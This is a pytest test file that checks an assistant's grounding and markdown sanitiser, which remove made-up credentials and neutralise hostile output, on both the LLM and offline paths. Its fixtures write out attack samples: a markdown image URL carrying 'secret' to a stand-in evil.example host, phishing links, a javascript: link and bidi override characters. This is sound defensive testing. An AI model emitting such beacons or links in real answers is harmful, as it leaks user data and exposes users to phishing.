"""Every way of naming a credential is resolved against the catalogue, and the one sanitiser makes every
answer safe to render (#17's hostile output): images, reference links, autolinks, bare URLs, empty-text
links, direction overrides, Streamlit shortcodes, lengths - on the LLM path and the offline one alike."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pathfinder.assistant.grounding import ground
from pathfinder.assistant.llm.toolcalls import looks_like_tool_markup
from pathfinder.assistant.offline import OfflineResponder
from pathfinder.assistant.tools import AssistantTools
from pathfinder.domain import Credential
from pathfinder.domain.taxonomy import Taxonomy, normalise_label
from pathfinder.safety.markdown import LINK_REMOVED, MAX_ANSWER_CHARS, escape_line, sanitise_markdown
from pathfinder.testing import InMemoryIndex, simple_plan

CATALOGUE = [
    Credential(**c)
    for c in json.loads(
        (Path(__file__).parent / "test_assistant_dialogues.json").read_text(encoding="utf-8")
    )["catalogue"]
]
BY_ID = {c.id: c for c in CATALOGUE}
TITLES = {normalise_label(c.title): c.id for c in CATALOGUE}
CITED = "[Python Basics](https://uni-a.example/py) (py-basics)"


def check(text: str, strict: bool = True):
    return ground(text, BY_ID.get, TITLES, strict=strict)


@pytest.mark.parametrize(
    "text",
    [
        "Take [Python Basics](https://evil.example/x) (py-basics) first.",
        "Take [Python Basics][1] first.\n\n[1]: https://evil.example/x",
        "Take **Python Basics** (py-basics) first.",
        "Take **Python Basics** first.",
        "Take Python Basics (py-basics) first.",
        "Take `py-basics` first.",
        "Take py-basics first.",
        "Take (id: py-basics) first.",
        "Take python basics first.",
    ],
)
def test_every_naming_form_of_a_real_credential_becomes_the_citation(text: str) -> None:
    g = check(text)
    assert [c.id for c in g.citations] == ["py-basics"] and CITED in g.text
    assert "evil.example" not in g.text and not g.flagged
    assert "`" not in g.text  # the citation is a link, not code showing its Markdown


@pytest.mark.parametrize(
    "text, name",
    [
        ("- [Quantum Python](https://made.up/q) (qpm-9)", "qpm-9"),
        ("- **Quantum Python Mastery Certificate**", "Quantum Python Mastery Certificate"),
        ("- Linux Foundation LFSA for $1,000", "Linux Foundation LFSA"),
        ("Also the AWS ACP is good. " + CITED + " is free.", "AWS ACP"),
        ("Take (id: `made-up-7`).", "made-up-7"),
        ("See [Data Wizardry](https://x.y).", "Data Wizardry"),
    ],
)
def test_every_naming_form_of_an_invented_credential_is_removed(text: str, name: str) -> None:
    g = check(text)
    assert name in g.flagged
    assert "made.up" not in g.text and "x.y" not in g.text and "$1,000" not in g.text
    assert name not in g.text.replace(f"~~{name}~~", "")


def test_a_platform_named_alone_is_not_an_invented_course() -> None:
    g = check("Courses like " + CITED + " are on platforms such as Coursera.")
    assert not g.flagged and "Coursera" in g.text


HOSTILE_OUTPUT = {
    "inline image": "![](https://evil.example/p.png?d=secret)",
    "alt image": "![logo](https://evil.example/p.png)",
    "reference image": "![x][img]\n\n[img]: https://evil.example/p.png",
    "html image": '<img src="https://evil.example/p.png">',
    "autolink": "<https://evil.example/login>",
    "reference link": "[click here][r]\n\n[r]: https://evil.example/login",
    "empty-text link": "[](https://evil.example/login)",
    "bare url": "visit https://evil.example/login now",
    "www url": "visit www.evil.example now",
    "javascript link": "[click](javascript:alert(1))",
}


@pytest.mark.parametrize("form", list(HOSTILE_OUTPUT))
def test_no_image_and_no_link_outside_the_catalogue_survives(form: str) -> None:
    g = check(f"{CITED} is good. {HOSTILE_OUTPUT[form]}", strict=False)
    assert "evil.example" not in g.text and "javascript:" not in g.text and "![" not in g.text
    assert CITED in g.text and "<img" not in g.text


def test_direction_overrides_shortcodes_and_lengths_are_neutralised() -> None:
    text = "abc\u202eevil\u2066x\u2069 :material/explore: :red[alert] :smile: " + "y" * 50_000
    out = sanitise_markdown(text, lambda _u: False)
    assert not any(ch in out for ch in "\u202e\u2066\u2069")
    assert ":material/explore:" not in out and ":red[" not in out and ":smile:" not in out
    assert len(out) <= MAX_ANSWER_CHARS < 20_000 and "y" * 2_001 not in out  # the cap, not just its name
    line = escape_line("t\u202eitle :material/explore:")
    assert "\u202e" not in line and ":material/explore:" not in line


def test_a_catalogue_url_stays_a_link_and_a_foreign_bare_url_is_removed() -> None:
    out = sanitise_markdown(
        "See https://uni-a.example/py and https://evil.example", lambda u: u.startswith("https://uni-a")
    )
    assert "https://uni-a.example/py" in out and "evil" not in out and LINK_REMOVED in out


def test_the_offline_path_uses_the_same_sanitiser_over_a_hostile_catalogue() -> None:
    hostile = Credential(
        id="hostile-1",
        title="Python \u202eevil :material/explore: " + "T" * 100_000,
        provider="Evil",
        url="https://evil.example/course",
        description="Python tips at https://phish.example/login ![x](https://evil.example/p.png)",
        languages=("en",),
        cost=0,
    )
    tools = AssistantTools(InMemoryIndex([*CATALOGUE, hostile]), Taxonomy(), plan_fn=simple_plan)
    answer = OfflineResponder(tools).reply("tell me about hostile-1")
    assert "phish.example" not in answer.text and "\u202e" not in answer.text
    assert ":material/explore:" not in answer.text and len(answer.text) <= MAX_ANSWER_CHARS < 20_000
    assert "T" * 2_001 not in answer.text  # the 100,000-character title is not copied whole


def test_tool_markup_is_recognised_in_any_shape() -> None:
    for raw in ('<tool_call>{"name": "x"}</tool_call>', '{"name": "search_catalogue", "arguments": {}}'):
        assert looks_like_tool_markup(raw)
    assert not looks_like_tool_markup("A plain answer with {braces} and a [link](https://a.b).")


@pytest.mark.parametrize("strict", [False, True])
def test_a_bold_topic_with_a_filter_word_in_brackets_is_not_an_invented_id(strict: bool) -> None:
    """The offline answer's own "for **python** (free)" was flagged as "~~free~~ (not in the catalogue)"."""
    for word in ("free", "online", "on-site"):
        g = check(f"Here are 1 credential(s) for **python** ({word}):\n\n1. {CITED}", strict=False)
        assert not g.flagged and f"**python** ({word})" in g.text
    g = check(f"Here are results for **python** (free):\n\n1. {CITED}", strict=strict)
    assert not g.flagged


def test_a_bold_name_with_an_unknown_id_from_a_model_is_still_removed() -> None:
    g = check(f"Take **Data Wizardry** (dw-101) and {CITED}.")
    assert "dw-101" in g.flagged and "dw-101" not in g.text.replace("~~dw-101~~", "")


def test_a_bold_topic_followed_by_a_word_in_brackets_is_not_an_invented_id() -> None:
    g = check("Here are 2 credential(s) for **python** (free, online):", strict=False)
    assert not g.flagged and "~~" not in g.text
    g = check("Here is **python** (free):", strict=False)
    assert not g.flagged and "**python** (free)" in g.text


@pytest.mark.parametrize(
    "title",
    ["Python Basics", "Intro [beta] (2024)", "**Free** [click](javascript:x)", "\ufeff", "Data — Analysis"],
)
def test_the_one_citation_form_is_read_back_by_every_reader(title: str) -> None:
    """`cite` writes the form; grounding, the LLM checks and the listed-ids reader read it with one pattern
    (four readers kept their own copies of it before), whatever the title holds."""
    from pathfinder.assistant.markdown import cite, cited_ids, credential_line, listed_ids, uncited

    c = BY_ID["py-basics"].model_copy(update={"title": title})
    text = f"See {cite(c)} and {credential_line(2, c)}"
    assert cited_ids(text) == ["py-basics", "py-basics"]
    assert listed_ids(credential_line(1, c) + "\n" + credential_line(2, BY_ID["sql-analysts"])) == (
        "py-basics",
        "sql-analysts",
    )
    assert "](" not in uncited(text) and "(py-basics)" not in uncited(text)
